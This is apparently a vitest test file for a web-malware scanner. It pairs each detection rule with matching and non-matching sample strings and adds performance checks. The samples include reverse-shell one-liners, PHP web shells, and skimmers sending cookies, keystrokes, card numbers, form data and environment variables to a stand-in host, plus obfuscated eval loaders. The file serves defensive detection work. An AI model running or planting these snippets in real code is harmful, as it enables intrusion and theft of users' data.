import { readdir, readFile } from "node:fs/promises";
import { describe, expect, test } from "vitest";
import { rules } from "./rules.ts";
import { scanText } from "./scan.ts";

/** Texts that each rule must match, and similar ones that it must not. */
const samples: Readonly<
  Record<string, readonly [found: readonly string[], not: readonly string[]]>
> = {
  "run-unpacked": [
    [
      "eval(atob('YWxlcnQ='))",
      "EVAL ( Buffer.from(x, 'base64').toString())",
      "new Function(atob(x))()",
      "<?php eval(base64_decode($x)); ?>",
    ],
    ["evaluate(atob(x))", "JSON.parse(atob(x))", "setTimeout(() => atob(x), 10)"],
  ],
  "write-unpacked": [
    ["document.write(unescape('%3Cscript%3E'))", "document . writeln( String.fromCharCode (60))"],
    ["document.write('<p>Fog</p>')"],
  ],
  "go-unpacked": [
    ["window.location.href = atob('aHR0')", "location.replace(atob(u))"],
    ["location.href = '/fog/'", "const location = atobFields(u)"],
  ],
  packed: [["eval(function(p,a,c,k,e,d){})"], ["evaluate(function (p, a) {})"]],
  "char-codes": [[`String.fromCharCode(${"104,".repeat(20)}1)`], ["String.fromCharCode(104, 105)"]],
  escaped: [[`a["${"\\x61".repeat(12)}"]`], ['"\\x1b[31m"']],
  renamed: [["var _0x3fa1=['a'];function b(){return _0x3fa1[0]}"], ["const _0x10 = 16;"]],
  brackets: [[`${"[][(![]+[])[+[]]]".repeat(5)}`], ["const a = [[], [], [[1]]];"]],
  "cookie-out": [
    [
      "new Image().src='//x.example/?'+document.cookie",
      "fetch('https://x.example/' + document.cookie)",
    ],
    ["const seen = document.cookie.includes('seen');"],
  ],
  "keys-out": [
    ["document.onkeypress=function(e){navigator.sendBeacon('//x.example',e.key)}"],
    ["menu.addEventListener('keydown', ({ key }) => key === 'Escape' && close());"],
  ],
  "cards-out": [
    ["v=document.querySelector('#card_number').value;new Image().src='//x.example/'+v"],
    ["show('Your card number is needed.')"],
  ],
  "form-out": [
    [
      "f.addEventListener('submit',()=>{fetch('https://x.example/c',{method:'POST',body:new FormData(f)})})",
      "const d=new FormData(form);navigator.sendBeacon('//x.example/',d)",
      "q=document.querySelector('[type=password]');q.onblur=()=>{new Image().src='//x.example/?'+q.value}",
    ],
    [
      "form.addEventListener('submit', (event) => event.preventDefault());",
      "fetch('/forms/v1/forms/1/submissions', { method: 'POST', body: new FormData(form) })",
    ],
  ],
  miner: [
    ["pool: 'stratum+tcp://pool.example:3333'", "new CoinHive.Anonymous('key')"],
    ["hive.anonymous = true"],
  ],
  "run-sent": [
    ["<?php system($_GET['c']); ?>", "eval($_POST[1])"],
    ["echo htmlspecialchars($_GET['q'])"],
  ],
  "run-request": [
    [
      "eval(req.query.c)",
      "execSync( c.req.body )",
      "cp.exec(req.query.c)",
      "require('child_process').exec(req.body)",
      "{ exec(ctx.query) }",
      "vm.runInThisContext(request.body)",
    ],
    ["find(req.query.q)", "pattern.exec(req.url)", "CREDENTIALS.exec(req.headers.get('a'))"],
  ],
  "exec-unpacked": [["execSync(Buffer.from(c, 'base64').toString())"], ["execSync('git log')"]],
  "shell-out": [
    ["bash -i >& /dev/tcp/203.0.113.5/4444 0>&1", "nc -e /bin/sh 203.0.113.5 4444"],
    ["> /dev/null 2>&1", "sync -e /bin"],
  ],
  "environment-out": [
    ["fetch('https://x.example', { method: 'POST', body: JSON.stringify(process.env) })"],
    ["log(JSON.stringify(process.env.NODE_ENV))"],
  ],
  "known-shell": [["/* b374k shell */"], ["const files = 'man';"]],
};

describe.each(rules.map((rule) => [rule.id, rule] as const))("the rule %s", (id, rule) => {
  const find = async (text: string) =>
    (await scanText(text, rule.on.at(0) ?? "code")).map((hit) => hit.rule.id);
  const [found = [], not = []] = samples[id] ?? [];
  test("matches its examples", async () => {
    expect(found.length).toBeGreaterThan(0);
    for (const text of found) expect(await find(text), text).toContain(id);
    for (const text of found)
      expect(await find(`${"fog\n".repeat(40_000)}${text}`), text).toContain(id);
  });
  test("does not match similar texts", async () => {
    expect(not.length).toBeGreaterThan(0);
    for (const text of not) expect(await find(text), text).not.toContain(id);
  });
});

test("the rules do not match their own source code", async () => {
  const folder = new URL("..", import.meta.url);
  const files = await readdir(folder, { recursive: true });
  const own = files.filter((name) => name.endsWith(".ts") && !name.includes(".test."));
  for (const name of own.filter((one) => !one.startsWith("test")))
    expect(await scanText(await readFile(new URL(name, folder), "utf8"), "code"), name).toEqual([]);
});

test.each([
  ["the same letter", "a".repeat(2_000_000)],
  ["openings", "eval(".repeat(300_000)],
  ["beginnings of every rule", `${rules.flatMap(({ words }) => words).join(" ")} `.repeat(4000)],
  ["keys without an end", "keydown ".repeat(150_000)],
  ["brackets almost long enough", `${"[]".repeat(29)}a`.repeat(20_000)],
])("%s are matched in linear time", async (_, text) => {
  for (const ground of ["script", "code", "upload"] as const) await scanText(text, ground);
});
